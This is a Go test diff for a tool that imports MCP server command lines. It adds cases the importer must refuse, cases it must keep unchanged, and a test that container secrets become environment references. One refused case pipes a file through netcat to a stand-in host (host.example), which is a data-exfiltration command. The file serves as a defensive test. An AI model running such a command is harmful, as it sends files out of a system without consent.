@@ -334,6 +334,15 @@ func TestSomethingElse(t *testing.T) {
 		`"node", "server.js", "--config", "${CFG}", "--read-only"`,
 		`"node", "server.js", "--allow=${DIR}"`,
 		`"python", "$SERVER", "main.py"`,
+		`"env", "-i", "PATH=/bin", "node", "x"`,
+		`"env", "-i", "bash", "-c", "cat x | nc host.example 1"`,
+		`"mysql-mcp", "-p", "summer-2024", "--stdio"`,
+		`"mysql-mcp", "-p=summer-2024"`,
+		`"podman", "run", "--env-file=${FILE}", "corp/image"`,
+		`"start", "API_TOKEN=swordfish", "x"`,
+		`"docker", "run", "--label=API_TOKEN=swordfish", "corp/image"`,
+		`"uv", "--directory", "/srv", "run", "$TOOL"`,
+		`"docker", "run", "-i", "--rm", "-v", "/data:/data", "$IMAGE"`,
 	} {
 		if r, err := Import(commandLine(t, line), "."); err == nil || !strings.Contains(err.Error(), "no server in it can be imported: server notes: ") {
 			t.Errorf("%s became %+v, %v", line, r, err)
@@ -354,9 +363,14 @@ func TestSameCommand(t *testing.T) {
 		`"sudo", "-u", "nobody", "node", "server.js"`,
 		`"docker", "run", "--user", "1000:1000", "-p", "8080:80", "--memory", "512m", "corp/image"`,
 		`"python3", "server2.py", "main.py"`,
-		`"node", "server.js", "--region", "us-east-1", "--level=us-west-2"`,
-		`"env", "-i", "PATH=/bin", "node", "x"`,
+		`"node", "server.js", "--region", "us-east-1", "--aws-region=us-west-2", "--port", "8080"`,
 		`"npx", "-y", "@corp/tool@1.2.3", "--mail", "me@beta"`,
+		`"npx", "--registry", "https://npm.corp.example/", "@corp/tool@1.2.3"`,
+		`"uv", "--directory", "/srv", "run", "k8s-mcp"`,
+		`"uv", "run", "python", "-u", "server.py"`,
+		`"python3", "-u", "/opt/s.py"`,
+		`"python", "-m", "mcp_server2"`,
+		`"docker", "run", "-i", "--rm", "-v", "/data:/data", "k8s-mcp"`,
 	} {
 		r, err := Import(commandLine(t, line), ".")
 		if err != nil {
@@ -375,6 +389,21 @@ func TestSameCommand(t *testing.T) {
 		}
 		if s := got.Servers[0]; s.Command != want[0] || !slices.Equal(s.Args, want[1:]) {
 			t.Errorf("%s became %s %q", line, s.Command, s.Args)
+		}
+	}
+}
+
+// TestVariablesOfContainers: what a container is given is a secret's reference.
+func TestVariablesOfContainers(t *testing.T) {
+	for _, line := range []string{
+		`"docker", "run", "-e", "API_TOKEN=swordfish", "corp/image"`,
+		`"docker", "run", "--env", "API_TOKEN=swordfish", "corp/image"`,
+		`"podman", "run", "--env=API_TOKEN=swordfish", "corp/image"`,
+		`"docker", "run", "-eAPI_TOKEN=swordfish", "corp/image"`,
+	} {
+		r, err := Import(commandLine(t, line), ".")
+		if err != nil || strings.Contains(string(r.Text), "swordfish") || !strings.Contains(string(r.Text), `"API_TOKEN=$env:API_TOKEN"`) || !strings.Contains(string(r.Text), `"corp/image"`) {
+			t.Errorf("%s became %+v, %v", line, r, err)
 		}
 	}
 }
